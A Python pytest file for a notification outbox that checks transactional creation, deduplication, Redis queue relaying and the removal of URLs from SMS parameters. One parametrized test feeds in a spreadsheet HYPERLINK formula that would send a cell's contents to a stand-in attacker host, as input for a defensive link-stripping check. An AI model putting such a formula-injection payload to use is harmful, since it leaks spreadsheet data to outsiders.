"""The outbox: a notice exists iff its change committed, and is queued once per attempt."""

from __future__ import annotations

import uuid
from datetime import timedelta

import pytest
from arq import create_pool
from arq.connections import RedisSettings
from sqlalchemy import update
from sqlmodel import select

from services.kit.outbox import (
    Notification,
    add_notification,
    param_has_url,
    relay,
    without_urls,
)
from services.kit.queue import NOTIFY_QUEUE
from tests.conftest import Stack


@pytest.fixture
async def arq_redis(stack: Stack):
    # A queue of its own so that no worker of another test consumes these jobs.
    pool = await create_pool(RedisSettings.from_dsn(stack.redis_url))
    await pool.delete(NOTIFY_QUEUE)
    yield pool
    await pool.delete(NOTIFY_QUEUE)
    await pool.aclose()


async def _add(session, key: str) -> uuid.UUID | None:
    return await add_notification(
        session,
        event="declaration.returned",
        template_code="DECLARATION_RETURNED",
        phone="+8613800000000",
        params={"deadline": "2022-09-20 18:00"},
        dedupe_key=key,
    )


async def test_rolled_back_change_leaves_no_notice(maker) -> None:
    key = f"test:{uuid.uuid4()}:returned:1"
    async with maker() as session:
        assert await _add(session, key) is not None
        await session.rollback()
    async with maker() as session:
        found = await session.exec(select(Notification).where(Notification.dedupe_key == key))
        assert found.first() is None


async def test_same_dedupe_key_is_one_notice(maker) -> None:
    key = f"test:{uuid.uuid4()}:returned:1"
    async with maker() as session:
        first = await _add(session, key)
        await session.commit()
    async with maker() as session:
        assert await _add(session, key) is None
        await session.commit()
        rows = (
            await session.exec(select(Notification.id).where(Notification.dedupe_key == key))
        ).all()
    assert list(rows) == [first]


async def test_relay_queues_each_attempt_once(maker, arq_redis) -> None:
    async with maker() as session:
        ids = [await _add(session, f"test:{uuid.uuid4()}:accepted") for _ in range(3)]
        await session.commit()

    assert await relay(maker, arq_redis, ids=ids) == 3
    # Relaying again (gateway retry, sweeper) adds nothing for the same attempt.
    assert await relay(maker, arq_redis, ids=ids) == 0
    assert await relay(maker, arq_redis, ids=ids, older_than=timedelta(0)) == 0
    assert await arq_redis.zcard(NOTIFY_QUEUE) == 3

    # A retry is a new attempt and is queued again.
    async with maker() as session:
        await session.exec(
            update(Notification).where(Notification.id == ids[0]).values(status="retry", attempts=1)
        )
        await session.commit()
    assert await relay(maker, arq_redis, ids=ids) == 1
    assert await arq_redis.zcard(NOTIFY_QUEUE) == 4


async def test_sweeper_bound_skips_recently_queued(maker, arq_redis) -> None:
    async with maker() as session:
        nid = await _add(session, f"test:{uuid.uuid4()}:payment_due")
        await session.commit()
    assert await relay(maker, arq_redis, ids=[nid]) == 1
    await arq_redis.delete(NOTIFY_QUEUE)  # as if Redis lost it
    # Not yet older than the bound: left alone; once older, queued again with the same id
    # (arq refuses a duplicate id only while the job is still known to Redis).
    assert await relay(maker, arq_redis, ids=[nid], older_than=timedelta(minutes=2)) == 0
    await arq_redis.delete(f"arq:job:notification:{nid}:0")
    assert await relay(maker, arq_redis, ids=[nid], older_than=timedelta(0)) == 1


async def test_sweeper_leaves_fresh_rows_to_the_producer(maker, arq_redis) -> None:
    from datetime import UTC, datetime

    async with maker() as session:
        fresh = await _add(session, f"test:{uuid.uuid4()}:accepted")
        due = await add_notification(
            session,
            event="declaration.payment_reminder",
            template_code="PAYMENT_REMINDER",
            phone="+8613800000000",
            params={"name": "张三", "amount": "230", "deadline": "2023-10-10 18:00"},
            dedupe_key=f"test:{uuid.uuid4()}:payment_reminder:1d",
            send_after=datetime.now(UTC) - timedelta(seconds=1),
        )
        later = await add_notification(
            session,
            event="declaration.payment_reminder",
            template_code="PAYMENT_REMINDER",
            phone="+8613800000000",
            params={"name": "张三", "amount": "230", "deadline": "2023-10-10 18:00"},
            dedupe_key=f"test:{uuid.uuid4()}:payment_reminder:3d",
            send_after=datetime.now(UTC) + timedelta(days=1),
        )
        await session.commit()
    ids = [fresh, due, later]
    # The sweeper's bound: the fresh row is the producer's to relay, the due reminder is
    # relayed at once, the future one not at all.
    assert await relay(maker, arq_redis, ids=ids, older_than=timedelta(minutes=2)) == 1
    assert await arq_redis.zscore(NOTIFY_QUEUE, f"notification:{due}:0") is not None
    assert await relay(maker, arq_redis, ids=ids) == 1  # the producer's fast path: fresh
    assert await arq_redis.zscore(NOTIFY_QUEUE, f"notification:{later}:0") is None


async def test_url_params_are_refused(maker) -> None:
    async with maker() as session:
        with pytest.raises(ValueError, match="URL"):
            await add_notification(
                session,
                event="declaration.accepted",
                template_code="DECLARATION_ACCEPTED",
                phone="+8613800000000",
                params={"name": "详见 https://example.cn/x", "title": "中级"},
                dedupe_key=f"test:{uuid.uuid4()}",
            )


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
            '=HYPERLINK("evil.example/?x="&A1,"点击")',
        ),
        ("韦工 www.example.cn", "韦工 "),
        ("详见 https://evil.com/x", "详见 /x"),
        ("韦工", "韦工"),
    ],
)
def test_text_a_person_typed_loses_its_links_not_the_notice(typed: str, kept: str) -> None:
    """An applicant's name is theirs to type: a link in it is taken out of the SMS
    parameter (which then passes the outbox's guard), rather than failing the act."""
    assert without_urls(typed) == kept
    assert not param_has_url(without_urls(typed))
